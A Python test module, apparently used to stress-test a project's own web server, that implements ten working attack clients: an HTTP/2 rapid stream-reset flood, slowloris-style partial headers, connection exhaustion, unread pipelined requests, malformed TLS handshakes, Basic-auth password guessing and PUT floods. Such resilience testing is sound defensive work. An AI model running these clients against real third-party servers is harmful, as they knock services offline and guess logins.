"""Rude clients of the pages, as a program of its own: ``python -m tests.attacks NAME HOST PORT SECONDS``.

Each attack goes on for the seconds given, then closes all it has opened. It knows no password. Uses plain sockets,
so that it costs itself less than its victim.
"""

import base64
import contextlib
import itertools
import socket
import sys
import time
from collections.abc import Callable, Iterator

Address = tuple[str, int]

GET = b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n"
HTTP_2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00"


@contextlib.contextmanager
def connections() -> Iterator[Callable[[Address], socket.socket]]:
    """Opens connections that are closed in the end, all at once."""
    with contextlib.ExitStack() as stack:

        def connect(address: Address) -> socket.socket:
            opened = stack.enter_context(socket.create_connection(address, timeout=5))
            opened.setblocking(False)
            return opened

        yield connect


def say(connection: socket.socket, data: bytes) -> bool:
    """Send as much as is taken at once; whether any was."""
    with contextlib.suppress(OSError):
        return connection.send(data) > 0
    return False


def http2_by_prior_knowledge(address: Address, end: float) -> None:
    """Open and reset streams, without an upgrade and as fast as can be."""
    streams = b"".join(
        b"\x00\x00\x06\x01\x05" + number.to_bytes(4, "big") + b"\x82\x84\x86\x41\x01a"
        + b"\x00\x00\x04\x03\x00" + number.to_bytes(4, "big") + b"\x00\x00\x00\x08"
        for number in range(1, 20_000, 2)
    )  # fmt: skip
    while time.monotonic() < end:
        with connections() as connect:
            attacker = connect(address)
            attacker.settimeout(1)
            with contextlib.suppress(OSError):
                attacker.sendall(HTTP_2_PREFACE + streams)


def ask_ahead_and_leave(address: Address, end: float, *, requests: int = 400) -> None:
    """50 connections with many requests each, not one answer of which is read; then leave and come again."""
    while time.monotonic() < end:
        with connections() as connect:
            for _ in range(50):
                say(connect(address), GET * requests)
            time.sleep(min(2, max(0, end - time.monotonic())))


def ask_a_little_ahead_and_leave(address: Address, end: float) -> None:
    """The same with as many requests as are answered in their order."""
    ask_ahead_and_leave(address, end, requests=50)


def ask_and_never_read(address: Address, end: float) -> None:
    """50 connections with a small window that ask for the page and leave it unread, opened again when cut."""
    with connections() as connect:
        opened: list[socket.socket] = []
        while time.monotonic() < end:
            while len(opened) < 50:
                opened.append(connect(address))
                opened[-1].setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                say(opened[-1], GET)
            time.sleep(0.1)


def connect_and_close(address: Address, end: float) -> None:
    """As many connections as can be, each closed at once."""
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            socket.create_connection(address, timeout=5).close()


def connect_and_wait(address: Address, end: float) -> None:
    """1,000 connections that say nothing, opened again when cut."""
    with connections() as connect:
        opened: list[socket.socket] = []
        while time.monotonic() < end:
            if len(opened) < 1000:
                with contextlib.suppress(OSError):
                    opened.append(connect(address))
                continue
            for index, each in enumerate(opened):
                with contextlib.suppress(OSError):
                    if each.recv(1) == b"":
                        opened[index] = connect(address)
            time.sleep(0.05)


def half_a_request(address: Address, end: float) -> None:
    """400 connections that send a header's byte now and then."""
    with connections() as connect:
        opened: list[socket.socket] = []
        while time.monotonic() < end:
            if len(opened) < 400:
                with contextlib.suppress(OSError):
                    opened.append(connect(address))
                    say(opened[-1], b"GET / HTTP/1.1\r\nX: ")
                continue
            opened = [each for each in opened if say(each, b"x")]
            time.sleep(0.2)


def guess(address: Address, end: float) -> None:
    """Logins of made-up users and of alice, each another one, from 40 connections."""
    with connections() as connect:
        opened = [connect(address) for _ in range(40)]
        for number in itertools.count():
            if time.monotonic() > end:
                return
            name = b"alice" if number % 2 else b"user%d" % number
            login = base64.b64encode(name + b":guess%d" % number)
            request = b"GET / HTTP/1.1\r\nHost: a\r\nAuthorization: Basic " + login + b"\r\n\r\n"
            index = number % len(opened)
            with contextlib.suppress(OSError):
                while opened[index].recv(65536):
                    pass
                opened[index] = connect(address)
            if not say(opened[index], request):
                opened[index] = connect(address)
            time.sleep(0.002)


def bad_handshakes(address: Address, end: float) -> None:
    """TLS records that are none, plain HTTP, and silence, on a port that may speak TLS."""
    for junk in itertools.cycle([b"\x16\x03\x01\x00\x05hello", GET, b"\x16\x03\x01\xff\xff" + b"\x00" * 70, b""]):
        if time.monotonic() > end:
            return
        with contextlib.suppress(OSError), connections() as connect:
            say(connect(address), junk)


def push_made_up_ids(address: Address, end: float) -> None:
    """1,000 ids that nobody has, over and over."""
    for number in itertools.cycle(range(1000)):
        if time.monotonic() > end:
            return
        with contextlib.suppress(OSError), socket.create_connection(address, timeout=5) as client:
            path = f"/api/v1/conversations/conv_made_up_{number}"
            client.sendall(f"PUT {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode())
            while client.recv(65536):
                pass


ATTACKS: dict[str, Callable[[Address, float], None]] = {
    attack.__name__: attack
    for attack in (
        http2_by_prior_knowledge,
        ask_ahead_and_leave,
        ask_a_little_ahead_and_leave,
        ask_and_never_read,
        connect_and_close,
        connect_and_wait,
        half_a_request,
        guess,
        bad_handshakes,
        push_made_up_ids,
    )
}

if __name__ == "__main__":
    name, host, port, seconds = sys.argv[1:]
    ATTACKS[name]((host, int(port)), time.monotonic() + float(seconds))
